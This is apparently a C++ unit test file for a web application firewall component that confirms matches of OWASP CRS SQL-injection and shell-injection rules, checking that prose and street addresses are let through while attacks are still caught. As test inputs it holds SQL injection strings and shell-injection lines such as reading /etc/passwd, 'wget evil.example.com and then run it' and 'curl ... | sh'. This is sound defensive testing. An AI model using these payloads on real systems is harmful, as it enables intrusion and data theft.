// The match confirmation of FP-prone CRS rules (src/managed/engine_confirm.h): each check on the
// prose it exists for and on attacks; the whole engine on the CRS v3.3.4 regression payloads in
// process, with the confirmation on and off: every attack stage the CRS intercepts without it is
// still intercepted with it, at paranoia levels 1 and 4, and the payloads of the confirmed rules
// still fire them.
#include <gtest/gtest.h>

#include <cstdio>
#include <map>
#include <set>
#include <string>
#include <vector>

#include "crs_ftw.h"
#include "engine_test_util.h"
#include "managed/engine_confirm.h"
#include "support/paths.h"

namespace shipgate::managed {
namespace {

// Runs `fn` as the engine would on `value`, given the rule's regex match: the first match of
// `needle` (a fixed string standing in for the regex), then again after each rejection.
bool judge(confirm::Fn fn, std::string_view value, std::string_view needle) {
  size_t p = value.find(needle);
  if (p == std::string_view::npos) return false;
  return fn(value, p, needle.size());
}

TEST(ManagedConfirm, SqlStatementRejectsAddressesAndProse) {
  EXPECT_FALSE(judge(confirm::sqlStatement, "3 Select Court", "3 Select"));
  EXPECT_FALSE(judge(confirm::sqlStatement, "12 Union Street", "12 Union"));
  EXPECT_FALSE(judge(confirm::sqlStatement, "221 Update Lane, Springfield", "221 Update"));
  EXPECT_FALSE(judge(confirm::sqlStatement, "- delete the old branch first", "- delete"));
  EXPECT_FALSE(judge(confirm::sqlStatement, "2. Create a new project", "2. Create a"));
}

TEST(ManagedConfirm, SqlStatementAcceptsInjections) {
  EXPECT_TRUE(judge(confirm::sqlStatement, "1 union select 1,2,3", "1 union select"));
  EXPECT_TRUE(judge(confirm::sqlStatement, "1 union select password from users", "1 union select"));
  EXPECT_TRUE(judge(confirm::sqlStatement, "1' union select null--", "1' union select"));
  EXPECT_TRUE(judge(confirm::sqlStatement, "1; delete from users", "1; delete"));
  EXPECT_TRUE(judge(confirm::sqlStatement, "-1 update users set admin=1", "-1 update"));
  EXPECT_TRUE(judge(confirm::sqlStatement, "1)select*from(users)", "1)select"));
  EXPECT_TRUE(judge(confirm::sqlStatement, "0 select", "0 select"));  // nothing after it
  EXPECT_TRUE(judge(confirm::sqlStatement, "/CREATE TABLE Persons", "/CREATE TABLE"));
  EXPECT_TRUE(judge(confirm::sqlStatement, "1/**/union/**/select/**/1", "1/**/union"));
  EXPECT_TRUE(judge(confirm::sqlStatement, "1 load data infile x", "1 load"));
  EXPECT_TRUE(judge(confirm::sqlStatement, "1 update users set admin 1", "1 update"));
  EXPECT_TRUE(judge(confirm::sqlStatement, "1 truncate table users", "1 truncate"));
  // The rule's other branches always count.
  EXPECT_TRUE(judge(confirm::sqlStatement, ") AS orders FROM", ") AS orders FROM"));
  EXPECT_TRUE(judge(confirm::sqlStatement, "select char(", "select char("));
  EXPECT_TRUE(judge(confirm::sqlStatement, "1234 AS \"foobar\" FROM t", "1234 AS \"foobar\" FROM"));
}

TEST(ManagedConfirm, SqlStatementRejectsMatchesMadeUpByTheRetry) {
  // After "3 Select" is rejected the operator runs on " Select Court": the anchored branch's
  // match at offset 1 is not a match of the rule on the whole value.
  EXPECT_FALSE(confirm::sqlStatement("Unit 3 Select Court", 6, 8));
}

TEST(ManagedConfirm, UnixCommandRejectsProse) {
  EXPECT_FALSE(judge(confirm::unixCommand, "rename the column user_name to username in the table",
                     "rename "));
  EXPECT_FALSE(judge(confirm::unixCommand, "sort the list by name and date", "sort "));
  EXPECT_FALSE(judge(confirm::unixCommand, "a=rename the old files later", "=rename "));
}

TEST(ManagedConfirm, UnixCommandAcceptsCommands) {
  EXPECT_TRUE(judge(confirm::unixCommand, "rename foo bar", "rename "));  // two arguments
  EXPECT_TRUE(judge(confirm::unixCommand, "cat /etc/passwd", "cat "));
  EXPECT_TRUE(judge(confirm::unixCommand, "uname -a and more words here", "uname "));
  EXPECT_TRUE(judge(confirm::unixCommand, "wget evil.example.com and then run it", "wget "));
  EXPECT_TRUE(judge(confirm::unixCommand, "nc the host at 4444 > out", "nc "));
  EXPECT_TRUE(judge(confirm::unixCommand, "id;the rest is prose here", "id;"));
  EXPECT_TRUE(judge(confirm::unixCommand, "x=curl the thing | sh", "=curl "));
  EXPECT_TRUE(judge(confirm::unixCommand, "r'e'name the column to the table", "r'e'name "));
  EXPECT_TRUE(judge(confirm::unixCommand, "whoami", "whoami"));
  // Not at the start and not after '=': made up by the retry's substring.
  EXPECT_FALSE(confirm::unixCommand("xrename foo", 1, 7));
}

TEST(ManagedConfirm, ShellSeparatorRejectsTexQuotes) {
  EXPECT_FALSE(judge(confirm::shellSeparator, "can be found in `/usr/share/common-licenses/GPL-2'.",
                     "`/usr/share"));
  EXPECT_FALSE(judge(confirm::shellSeparator,
                     "is in `/usr/share/common-licenses/GPL', the Artistic license in "
                     "`/usr/share/common-licenses/Artistic'.",
                     "`/usr/share"));
  EXPECT_FALSE(judge(confirm::shellSeparator, "`diff' was written by Mike Haertel", "`diff"));
}

TEST(ManagedConfirm, ShellSeparatorAcceptsSubstitutions) {
  EXPECT_TRUE(judge(confirm::shellSeparator, "x`id`", "`id"));
  EXPECT_TRUE(judge(confirm::shellSeparator, "`id''`", "`id"));      // '' is an empty string
  EXPECT_TRUE(judge(confirm::shellSeparator, "`id \"'\"`", "`id"));  // a quoted quote
  EXPECT_TRUE(judge(confirm::shellSeparator, "`id #'`", "`id"));
  EXPECT_TRUE(judge(confirm::shellSeparator, "a; net user", "; net"));  // other separators
  EXPECT_TRUE(judge(confirm::shellSeparator, "a | dir c:\\", "| dir"));
  EXPECT_FALSE(judge(confirm::shellSeparator, "`id'`", "`id"));  // id' never closes: no command
}

TEST(ManagedConfirm, RetryFindsThePayloadAfterADecoy) {
  // confirmed() re-runs the operator after a rejected match; a fake "operator" that finds the
  // first backtick stands in for the rule's regex.
  std::string value = "see `/usr/share/common-licenses/GPL' then x`id`";
  Captures caps;
  auto op = [&](std::string_view v) {
    size_t p = v.find('`');
    if (p == std::string_view::npos) return false;
    caps.groups.assign(1, std::string(v.substr(p, 3)));
    return true;
  };
  ASSERT_TRUE(op(value));
  EXPECT_TRUE(confirm::confirmed(confirm::shellSeparator, value, caps, op));
  std::string only_decoys = "see `/usr/share/common-licenses/GPL' and `/usr/share/x'";
  ASSERT_TRUE(op(only_decoys));
  EXPECT_FALSE(confirm::confirmed(confirm::shellSeparator, only_decoys, caps, op));
  // More than kMaxRejected decoys: the match counts.
  std::string flood;
  for (int i = 0; i < confirm::kMaxRejected + 1; ++i) flood += "`x' ";
  ASSERT_TRUE(op(flood));
  EXPECT_TRUE(confirm::confirmed(confirm::shellSeparator, flood, caps, op));
}

TEST(ManagedConfirm, OnlyTheListedRules) {
  EXPECT_EQ(confirm::forRule(942360), &confirm::sqlStatement);
  EXPECT_EQ(confirm::forRule(932150), &confirm::unixCommand);
  EXPECT_EQ(confirm::forRule(932115), &confirm::shellSeparator);
  EXPECT_EQ(confirm::forRule(932100), &confirm::shellSeparator);
  EXPECT_EQ(confirm::forRule(942100), nullptr);
}

// The engine with the Debian CRS: the setting decides whether 942360 fires on an address.
TEST(ManagedConfirm, EngineSettingOnAndOff) {
  testing::Req r;
  r.method = "POST";
  r.uri = "/contact";
  r.header("Content-Type", "application/x-www-form-urlencoded");
  r.body = "name=Ann&address=3+Select+Court";
  testing::Req attack = r;
  attack.body = "name=Ann&address=3+union+select+password+from+users";
  for (bool on : {true, false}) {
    SCOPED_TRACE(on ? "confirm_matches: true" : "confirm_matches: false");
    CrsSettings s;
    s.confirm_matches = on;
    auto e = Engine::load(s);
    ASSERT_TRUE(e.isOk()) << e.status().message();
    auto sc = (*e)->newScratch();
    Verdict v = testing::run(**e, *sc, r);
    EXPECT_EQ(testing::has(v, 942360), !on) << testing::ids(v);
    EXPECT_EQ(v.intercepted, !on);
    Verdict va = testing::run(**e, *sc, attack);
    EXPECT_TRUE(testing::has(va, 942360)) << testing::ids(va);
    EXPECT_TRUE(va.intercepted);
  }
}

// The CRS v3.3.4 regression payloads through the engine in process, confirmation on and off.
void crsPayloads(int pl) {
  std::string dir = testsupport::crsRegressionTests();
  ASSERT_FALSE(dir.empty()) << "the CRS v3.3.4 regression tests are missing";
  crsftw::LoadResult suite = crsftw::loadSuite(dir);
  ASSERT_TRUE(suite.errors.empty()) << suite.errors.front();
  ASSERT_GT(suite.stages.size(), 2000u);
  CrsSettings on;
  on.paranoia_level = pl;
  CrsSettings off = on;
  off.confirm_matches = false;
  auto e_on = Engine::load(on);
  auto e_off = Engine::load(off);
  ASSERT_TRUE(e_on.isOk()) << e_on.status().message();
  ASSERT_TRUE(e_off.isOk()) << e_off.status().message();
  auto sc_on = (*e_on)->newScratch();
  auto sc_off = (*e_off)->newScratch();
  const std::set<int64_t> listed = {942360, 932150, 932115, 932100};
  std::map<int64_t, std::pair<int, int>> fired;  // rule -> (stages firing it on, off)
  int attacks = 0, caught_on = 0, caught_off = 0;
  std::vector<std::string> lost;
  for (const auto& st : suite.stages) {
    testing::Req r = testing::parseRaw(st.request);
    Verdict v_on = testing::run(**e_on, *sc_on, r);
    Verdict v_off = testing::run(**e_off, *sc_off, r);
    for (int64_t id : listed) {
      if (testing::has(v_on, id)) ++fired[id].first;
      if (testing::has(v_off, id)) ++fired[id].second;
    }
    if (st.category == 0) continue;
    ++attacks;
    caught_on += v_on.intercepted;
    caught_off += v_off.intercepted;
    if (v_off.intercepted && !v_on.intercepted)
      lost.push_back(st.file + " #" + std::to_string(st.stage_index) + " " + st.test_title);
  }
  std::printf("PL%d: %d attack stages, intercepted %d with confirmation, %d without\n", pl, attacks,
              caught_on, caught_off);
  for (const auto& [id, n] : fired)
    std::printf("  %lld: fires on %d of the %d stages it fires on without confirmation\n",
                static_cast<long long>(id), n.first, n.second);
  EXPECT_TRUE(lost.empty()) << lost.size() << " attack stages lost, first: " << lost.front();
  EXPECT_EQ(caught_on, caught_off);
}

TEST(ManagedConfirm, CrsRegressionPayloadsAtParanoiaLevel1) { crsPayloads(1); }
TEST(ManagedConfirm, CrsRegressionPayloadsAtParanoiaLevel4) { crsPayloads(4); }

}  // namespace
}  // namespace shipgate::managed
